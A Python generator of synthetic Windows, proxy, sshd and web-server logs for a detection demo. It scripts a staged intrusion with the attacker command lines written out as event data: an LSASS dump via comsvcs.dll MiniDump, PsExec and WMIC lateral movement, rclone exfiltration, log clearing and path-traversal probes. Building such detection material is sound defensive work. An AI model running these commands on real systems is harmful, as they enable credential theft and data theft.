#!/usr/bin/env python3
"""Writes the synthesised logs of the demo: gen_demo.py CONTENT_DEMO_FOLDER

Fixed seed, so the same bytes every time; run it after an edit and commit what it writes.

history.ndjson  some days before now: background, false positives, and one intrusion from mail to cleared logs
live.ndjson     LOOP_S seconds that the demo repeats with other hosts, addresses and numbers each round

One line: {"at": seconds (history: before now, negative; live: within the loop), "part": "story" | "false_positive" |
"scan" | "background", "rules": [ids of the rules of content/sigma that match, all of them], "event": {…}}.
The replay replaces @TIME@ (RFC 3339), @UTC@ (as Sysmon writes it), @SYSLOG@ (RFC 3164), and in live lines @PC@ @USER@ (one
client and its user per line), @PID@ @PORT@ @IP@ (a documentation address) @GUID@. Every event carries "noroshi_demo": true.
Names end in .example, addresses are those that RFC 5737 keeps for documentation or private ones.
"""
import json
import os
import random
import sys

DAY, HOUR, MINUTE = 86400, 3600, 60
LOOP_S = 600
HISTORY_DAYS = 4
R = "8c1f2f0a-5f1d-4a51-9c3e-1d5a4c7b9e"
MACRO_DOC, OFFICE_CHILD, ENCODED, SCRIPT_UA, TASK, RECON, COMSVCS, LSASS, SERVICE, WMIC, ARCHIVE, RCLONE, UPLOAD, CLEARED, \
    SSH_USER, TRAVERSAL = (f"{R}{n:02x}" for n in range(1, 17))

rng = random.Random(20261121)
DOMAIN = "DEMO-WORKS"
SUFFIX = ".demo-works.example"
SURNAMES = ["abe", "endo", "fujita", "goto", "hayashi", "ikeda", "ishii", "kato", "kimura", "kondo", "maeda", "mori",
            "nakano", "ogawa", "yamamoto", "ota", "saito", "sakai", "shimizu", "ueda", "uchida", "wada", "okada", "yokota"]
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
SYS32 = "C:\\Windows\\System32\\"
PS = SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
BROWSER_UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36"
PS_UA = "Mozilla/5.0 (Windows NT; Windows NT 10.0; ja-JP) WindowsPowerShell/5.1.19041.4648"
C2 = "status.parts-catalog.example"
lines = []
record = 41000


def pc(number):
    return f"DW-PC-{number:03d}"


def user_of(number):
    return SURNAMES[number % len(SURNAMES)]


def guid():
    h = "%032x" % rng.getrandbits(128)
    return "{" + "-".join((h[:8], h[8:12], h[12:16], h[16:20], h[20:])) + "}"


def put(at, part, rules, event):
    lines.append({"at": int(at), "part": part, "rules": rules, "event": {**event, "noroshi_demo": True}})


# ---------------------------------------------------------------- shapes of events

def windows(provider, channel, event_id, host, data, user_data=False):
    global record
    record += 1
    system = {
        "Provider": {"#attributes": {"Name": provider}}, "EventID": event_id, "Level": 4,
        "TimeCreated": {"#attributes": {"SystemTime": "@TIME@"}}, "EventRecordID": record,
        "Execution": {"#attributes": {"ProcessID": rng.randrange(1500, 4000), "ThreadID": rng.randrange(4000, 9000)}},
        "Channel": channel, "Computer": host + SUFFIX,
    }
    body = {"UserData": data} if user_data else {"EventData": data}
    return {"Event": {"System": system, **body}}


def sysmon(event_id, host, data):
    return windows("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", event_id, host,
                   {"RuleName": "-", "UtcTime": "@UTC@", **data})


def process(host, user, image, command, parent, parent_command="", original=None, pid=None, integrity="Medium"):
    return sysmon(1, host, {
        "ProcessGuid": guid(), "ProcessId": pid or rng.randrange(2000, 19000), "Image": image,
        "OriginalFileName": original or image.rsplit("\\", 1)[1], "CommandLine": command,
        "CurrentDirectory": f"C:\\Users\\{user}\\", "User": f"{DOMAIN}\\{user}", "IntegrityLevel": integrity,
        "Hashes": "SHA256=%064X" % rng.getrandbits(256), "ParentProcessId": rng.randrange(800, 9000),
        "ParentImage": parent, "ParentCommandLine": parent_command or f'"{parent}"',
    })


def dns(host, user, image, name, answer):
    return sysmon(22, host, {"ProcessId": rng.randrange(2000, 19000), "QueryName": name, "QueryStatus": "0",
                             "QueryResults": f"::ffff:{answer};", "Image": image, "User": f"{DOMAIN}\\{user}"})


def logon(host, user, kind, address):
    return windows("Microsoft-Windows-Security-Auditing", "Security", 4624, host, {
        "SubjectUserName": "-", "SubjectDomainName": "-", "TargetUserName": user, "TargetDomainName": DOMAIN,
        "LogonType": kind, "LogonProcessName": "Kerberos", "AuthenticationPackageName": "Kerberos",
        "WorkstationName": "-", "IpAddress": address, "IpPort": rng.randrange(49152, 65535)})


def proxy(host, user, method, name, path, status, agent=BROWSER_UA, out_bytes=None, address=None):
    last = path.split("?")[0].rsplit("/", 1)[-1]
    return {"@timestamp": "@TIME@", "product": "squid", "category": "proxy", "observer": "dw-px-01", "host": host,
            "c-ip": address or f"10.20.1.{rng.randrange(10, 240)}", "cs-username": user, "cs-method": method,
            "cs-host": name, "c-uri": f"https://{name}{path}", "c-uri-extension": last.rsplit(".", 1)[1] if "." in last else "",
            "c-useragent": agent, "sc-status": status, "cs-bytes": out_bytes or rng.randrange(300, 4000),
            "sc-bytes": rng.randrange(800, 90000)}


def sshd(message, host="dw-jump-01"):
    return {"@timestamp": "@TIME@", "product": "linux", "service": "sshd", "host": host,
            "message": f"<38>@SYSLOG@ {host} sshd[{rng.randrange(900, 32000)}]: {message}"}


def web(address, method, stem, query, status):
    return {"@timestamp": "@TIME@", "product": "nginx", "category": "webserver", "host": "dw-web-01", "c-ip": address,
            "cs-method": method, "cs-uri-stem": stem, "cs-uri-query": query, "sc-status": status,
            "sc-bytes": rng.randrange(200, 30000), "cs-user-agent": BROWSER_UA}


def outside():
    return f"{rng.choice(['203.0.113', '198.51.100'])}.{rng.randrange(1, 255)}"


# ---------------------------------------------------------------- what happens

def story():
    """One intrusion, told over four days; k.yamamoto's machine is the way in."""
    host, user = pc(14), "yamamoto"
    at = -3 * DAY - 22 * HOUR - 48 * MINUTE
    put(at, "story", [MACRO_DOC], proxy(host, user, "GET", "dl.invoice-center.example", "/2611/seikyu_202611.docm", 200))
    put(at + 95, "story", [], process(host, user, OFFICE + "WINWORD.EXE",
        f'"{OFFICE}WINWORD.EXE" /n "C:\\Users\\{user}\\Downloads\\seikyu_202611.docm"', "C:\\Windows\\explorer.exe"))
    put(at + 131, "story", [OFFICE_CHILD, ENCODED], process(host, user, PS,
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABEAEUATQBPACkA", OFFICE + "WINWORD.EXE"))
    put(at + 133, "story", [], dns(host, user, PS, C2, "203.0.113.77"))
    put(at + 134, "story", [SCRIPT_UA], proxy(host, user, "GET", C2, "/a/next?id=14", 200, PS_UA))
    put(at + 240, "story", [TASK], process(host, user, SYS32 + "schtasks.exe",
        f'schtasks.exe /create /f /sc minute /mo 30 /tn "OfficeUpdateCheck" /tr "C:\\Users\\{user}\\AppData\\Roaming\\ofchk.exe"', PS))
    for n in range(1, 18):  # the beacon, every five hours with a little jitter
        beat = at + 240 + n * 5 * HOUR + rng.randrange(-200, 200)
        if beat < -2 * HOUR:
            put(beat, "story", [SCRIPT_UA], proxy(host, user, "GET", C2, f"/a/next?id=14&n={n}", 200, PS_UA))
    at = -2 * DAY - 21 * HOUR
    beacon = f"C:\\Users\\{user}\\AppData\\Roaming\\ofchk.exe"
    put(at, "story", [], process(host, user, SYS32 + "whoami.exe", "whoami /all", beacon))
    put(at + 60, "story", [RECON], process(host, user, SYS32 + "net.exe", 'net group "Domain Admins" /domain', beacon))
    put(at + 140, "story", [RECON], process(host, user, SYS32 + "nltest.exe", "nltest /dclist:demo-works", beacon))
    put(at + 300, "story", [], process(host, user, SYS32 + "net.exe", "net view \\\\DW-FS-01", beacon))
    at = -1 * DAY - 19 * HOUR - 25 * MINUTE
    put(at, "story", [COMSVCS], process(host, user, SYS32 + "rundll32.exe",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 724 C:\\Users\\Public\\d.tmp full", SYS32 + "cmd.exe", integrity="High"))
    put(at + 1, "story", [LSASS], sysmon(10, host, {"SourceProcessId": 8120, "SourceImage": SYS32 + "rundll32.exe",
        "TargetProcessId": 724, "TargetImage": SYS32 + "lsass.exe", "GrantedAccess": "0x1fffff",
        "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\comsvcs.dll+2ad4"}))
    put(at + 40 * MINUTE, "story", [], logon("DW-FS-01", "adm.backup", 3, "10.20.1.14"))
    put(at + 41 * MINUTE, "story", [SERVICE], windows("Service Control Manager", "System", 7045, "DW-FS-01", {
        "ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe", "ServiceType": "user mode service",
        "StartType": "demand start", "AccountName": "LocalSystem"}))
    put(at + 55 * MINUTE, "story", [WMIC], process(host, user, SYS32 + "wbem\\WMIC.exe",
        'wmic /node:"DW-DC-01" /user:DEMO-WORKS\\adm.backup process call create "cmd.exe /c whoami"', beacon))
    at = -20 * HOUR - 10 * MINUTE
    put(at, "story", [ARCHIVE], process("DW-FS-01", "adm.backup", "C:\\Users\\Public\\rar.exe",
        "rar.exe a -hpK7v2 -v200m C:\\Users\\Public\\r.rar D:\\Share\\Design\\*", SYS32 + "cmd.exe", integrity="High"))
    put(at + 30 * MINUTE, "story", [RCLONE], process("DW-FS-01", "adm.backup", "C:\\Users\\Public\\svchost32.exe",
        "svchost32.exe copy C:\\Users\\Public\\ box:/in --transfers 4", SYS32 + "cmd.exe", original="rclone.exe", integrity="High"))
    put(at + 31 * MINUTE, "story", [UPLOAD], proxy("DW-FS-01", "adm.backup", "PUT", "up.box-storage.example", "/in/r.part1.rar", 403,
        "rclone/v1.68", 209715200, "10.20.0.11"))
    put(-3 * HOUR, "story", [CLEARED], windows("Microsoft-Windows-Eventlog", "Security", 1102, "DW-FS-01", {"LogFileCleared": {
        "SubjectUserSid": "S-1-5-21-1004-1113", "SubjectUserName": "adm.backup", "SubjectDomainName": DOMAIN,
        "SubjectLogonId": "0x3e7a1"}}, user_data=True))


def false_positives():
    for day in range(-HISTORY_DAYS, 0):
        n = 40 + day * 3
        at = day * DAY + 5 * HOUR
        put(at, "false_positive", [ENCODED], process(pc(n), "svc.deploy", PS,
            "powershell.exe -NonInteractive -EncodedCommand RwBlAHQALQBIAG8AdABGAGkAeAA=",
            "C:\\Program Files\\DemoDeploy\\agent.exe", integrity="System"))
        put(at + 3 * HOUR, "false_positive", [ARCHIVE], process("DW-FS-01", "svc.backup", "C:\\Program Files\\7-Zip\\7z.exe",
            "7z.exe a -pXXXX -mhe E:\\Backup\\acct.7z D:\\Share\\Accounting", "C:\\Program Files\\DemoBackup\\job.exe", integrity="System"))
        put(at + 90 * MINUTE, "false_positive", [SCRIPT_UA], proxy(pc(7), "kato", "GET", "pypi.packages.example", "/simple/", 200,
            "python-requests/2.32"))
    put(-2 * DAY - 4 * HOUR, "false_positive", [RECON], process("DW-ADM-01", "adm.it", SYS32 + "net.exe",
        "net group /domain", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"))
    put(-1 * DAY - 2 * HOUR, "false_positive", [MACRO_DOC], proxy(pc(22), user_of(22), "GET", "order.partner-a.example",
        "/forms/order_sheet.xlsm", 200))


def scans():
    for _ in range(36):
        name = rng.choice(["admin", "test", "oracle", "ubuntu", "guest", "git"])
        put(-rng.randrange(600, HISTORY_DAYS * DAY), "scan", [SSH_USER],
            sshd(f"Invalid user {name} from {outside()} port {rng.randrange(1024, 65535)}"))
    for _ in range(12):
        put(-rng.randrange(600, HISTORY_DAYS * DAY), "scan", [TRAVERSAL],
            web(outside(), "GET", "/download", "file=" + rng.choice(["../../../../etc/passwd", "..%2f..%2fwin.ini"]), 404))


def background(at):
    """One benign event of the many that a company's day is made of."""
    n = rng.randrange(1, 61)
    host, user, kind = pc(n), user_of(n), rng.randrange(100)
    if kind < 26:
        site = rng.choice(["www.news.example", "mail.demo-works.example", "intra.demo-works.example", "map.example", "wiki.example"])
        event = proxy(host, user, "GET", site, rng.choice(["/", "/index.html", "/style.css", "/api/v2/items?page=2", "/img/logo.png"]), 200)
    elif kind < 30:
        event = proxy(host, "-", "GET", "wu.update.demo-works.example", "/c/upd.cab", 200, "Go-http-client/2.0")
    elif kind < 52:
        image, command, parent = rng.choice([
            (OFFICE + "EXCEL.EXE", f'"{OFFICE}EXCEL.EXE" "D:\\work\\uriage.xlsx"', "C:\\Windows\\explorer.exe"),
            (OFFICE + "WINWORD.EXE", f'"{OFFICE}WINWORD.EXE" "D:\\work\\giji.docx"', "C:\\Windows\\explorer.exe"),
            ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe --type=renderer", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"),
            (SYS32 + "svchost.exe", "svchost.exe -k netsvcs -p", SYS32 + "services.exe"),
            (SYS32 + "splwow64.exe", "splwow64.exe 8192", OFFICE + "EXCEL.EXE"),
            (PS, "powershell.exe -ExecutionPolicy RemoteSigned -File C:\\Scripts\\inventory.ps1", "C:\\Program Files\\DemoDeploy\\agent.exe"),
            (SYS32 + "net.exe", "net use Z: \\\\DW-FS-01\\share", SYS32 + "cmd.exe"),
            (SYS32 + "schtasks.exe", "schtasks.exe /query /fo csv", "C:\\Program Files\\DemoDeploy\\agent.exe"),
            (SYS32 + "rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL desk.cpl", "C:\\Windows\\explorer.exe"),
        ])
        event = process(host, user, image, command, parent)
    elif kind < 66:
        event = logon(rng.choice([host, "DW-FS-01", "DW-DC-01"]), user, rng.choice([2, 3, 3, 7]), f"10.20.1.{n}")
    elif kind < 74:
        event = dns(host, user, "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", rng.choice(["www.news.example", "map.example"]), outside())
    elif kind < 78:
        event = windows("Service Control Manager", "System", 7036, host, {"param1": "Windows Update", "param2": rng.choice(["実行中", "停止"])})
    elif kind < 80:
        event = sysmon(10, host, {"SourceImage": "C:\\Program Files\\Windows Defender\\MsMpEng.exe", "TargetImage": SYS32 + "lsass.exe",
                                  "GrantedAccess": "0x1010", "SourceProcessId": 3120, "TargetProcessId": 724, "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4"})
    elif kind < 88:
        event = sshd(f"Accepted publickey for {rng.choice(['adm.it', 'deploy'])} from 10.20.0.{rng.randrange(5, 30)} port {rng.randrange(32768, 60999)} ssh2")
    else:
        event = web(outside(), "GET", rng.choice(["/", "/products", "/company", "/news/202611", "/contact"]), rng.choice(["-", "page=2", "q=valve"]), 200)
    put(at, "background", [], event)


def history():
    story()
    false_positives()
    scans()
    for _ in range(760):
        background(-rng.randrange(120, HISTORY_DAYS * DAY))


def live():
    host, user, out = "DW-PC-@PC@", "@USER@", "@IP@"
    put(3, "scan", [SSH_USER], sshd(f"Invalid user admin from {out} port @PORT@"))
    put(14, "story", [MACRO_DOC], proxy(host, user, "GET", "dl.invoice-center.example", "/2611/mitsumori_@PORT@.docm", 200))
    put(26, "story", [OFFICE_CHILD, ENCODED], process(host, user, PS, "powershell.exe -nop -w hidden -enc SQBFAFgAIABEAEUATQBPAA==",
        OFFICE + "WINWORD.EXE", pid="@PID@"))
    put(31, "story", [SCRIPT_UA], proxy(host, user, "GET", C2, "/a/next?id=@PID@", 200, PS_UA))
    put(58, "scan", [TRAVERSAL], web(out, "GET", "/download", "file=../../../../etc/passwd", 404))
    put(75, "false_positive", [ENCODED], process(host, "svc.deploy", PS, "powershell.exe -NonInteractive -EncodedCommand RwBlAHQALQBIAG8AdABGAGkAeAA=",
        "C:\\Program Files\\DemoDeploy\\agent.exe", pid="@PID@", integrity="System"))
    put(97, "scan", [SSH_USER], sshd(f"Invalid user oracle from {out} port @PORT@"))
    put(120, "story", [RECON], process(host, user, SYS32 + "nltest.exe", "nltest /domain_trusts", SYS32 + "cmd.exe", pid="@PID@"))
    put(155, "story", [TASK], process(host, user, SYS32 + "schtasks.exe",
        'schtasks.exe /create /f /sc onlogon /tn "SyncHelper" /tr "C:\\Users\\Public\\sync.exe"', SYS32 + "cmd.exe", pid="@PID@"))
    put(190, "story", [COMSVCS], process(host, user, SYS32 + "rundll32.exe",
        "rundll32.exe comsvcs.dll, MiniDump 724 C:\\Users\\Public\\@PID@.tmp full", SYS32 + "cmd.exe", pid="@PID@", integrity="High"))
    put(191, "story", [LSASS], sysmon(10, host, {"SourceProcessId": "@PID@", "SourceImage": SYS32 + "rundll32.exe", "TargetProcessId": 724,
        "TargetImage": SYS32 + "lsass.exe", "GrantedAccess": "0x1fffff", "CallTrace": "C:\\Windows\\System32\\comsvcs.dll+2ad4"}))
    put(240, "false_positive", [SCRIPT_UA], proxy(host, user, "GET", "pypi.packages.example", "/simple/", 200, "python-requests/2.32"))
    put(262, "story", [SERVICE], windows("Service Control Manager", "System", 7045, host, {"ServiceName": "PSEXESVC",
        "ImagePath": "%SystemRoot%\\PSEXESVC.exe", "ServiceType": "user mode service", "StartType": "demand start", "AccountName": "LocalSystem"}))
    put(300, "scan", [SSH_USER], sshd(f"Invalid user guest from {out} port @PORT@"))
    put(333, "story", [WMIC], process(host, user, SYS32 + "wbem\\WMIC.exe", "wmic /node:DW-FS-01 process call create cmd.exe", SYS32 + "cmd.exe", pid="@PID@"))
    put(380, "false_positive", [MACRO_DOC], proxy(host, user, "GET", "order.partner-a.example", "/forms/order_sheet.xlsm", 200))
    put(420, "story", [ARCHIVE], process(host, user, "C:\\Users\\Public\\rar.exe", "rar.exe a -hp@PID@ C:\\Users\\Public\\o.rar D:\\work", SYS32 + "cmd.exe", pid="@PID@"))
    put(455, "story", [RCLONE], process(host, user, "C:\\Users\\Public\\rclone.exe", "rclone.exe copy C:\\Users\\Public box:/in", SYS32 + "cmd.exe", pid="@PID@"))
    put(460, "story", [UPLOAD], proxy(host, user, "PUT", "up.box-storage.example", "/in/o.rar", 403, "rclone/v1.68", 157286400))
    put(520, "story", [CLEARED], windows("Microsoft-Windows-Eventlog", "Security", 1102, host, {"LogFileCleared": {
        "SubjectUserName": user, "SubjectDomainName": DOMAIN, "SubjectLogonId": "0x3e7a1"}}, user_data=True))
    put(560, "scan", [TRAVERSAL], web(out, "GET", "/view", "p=..%2f..%2fetc%2fshadow", 404))
    for _ in range(170):
        background(rng.randrange(1, LOOP_S))


def write(path, make):
    lines.clear()
    make()
    lines.sort(key=lambda line: line["at"])
    with open(path, "w", encoding="utf-8") as f:
        for line in lines:
            f.write(json.dumps(line, ensure_ascii=False, separators=(",", ":")) + "\n")
    return len(lines), os.path.getsize(path)


def main():
    folder = sys.argv[1]
    for name, make in (("history.ndjson", history), ("live.ndjson", live)):
        count, size = write(os.path.join(folder, name), make)
        print(f"{name}: {count} lines, {size} bytes")


main()
